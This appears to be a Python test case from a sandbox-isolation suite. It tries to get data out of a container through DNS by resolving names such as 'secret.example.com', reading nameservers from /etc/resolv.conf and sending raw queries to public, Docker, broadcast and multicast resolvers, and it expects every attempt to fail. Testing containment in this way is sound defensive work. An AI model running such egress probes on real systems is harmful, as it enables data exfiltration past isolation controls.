"""Attempts: to carry data out in names: the resolver's library, queries of its own to every usual server, multicast names.
Seen from outside: no name resolves and no packet leaves.
Kind: network
Expect: {"outcome": {"kind": "completed"}, "answer": "resolved []"}
"""
import socket
import struct


def main(query):
    resolved = []
    for name in ("secret.example.com", "example.com.", "host.docker.internal", "gateway.docker.internal", "_gateway", "kubernetes.default"):
        try:
            resolved.append([name, socket.getaddrinfo(name, 80)])
        except OSError:
            pass
    question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\7example\3com\0" + struct.pack(">2H", 1, 1)
    servers = ["127.0.0.11", "127.0.0.53", "8.8.8.8", "1.1.1.1", "224.0.0.251", "255.255.255.255", "172.17.0.1"]
    with open("/etc/resolv.conf") as file:
        servers += [line.split()[1] for line in file if line.startswith("nameserver")]
    for server in servers:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.settimeout(0.3)
            try:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            except OSError:
                pass
            try:
                connection.sendto(question, (server, 5353 if server.startswith("224") else 53))
                resolved.append([server, connection.recv(512)])
            except OSError:
                pass
    return {"answer": f"resolved {resolved}"}
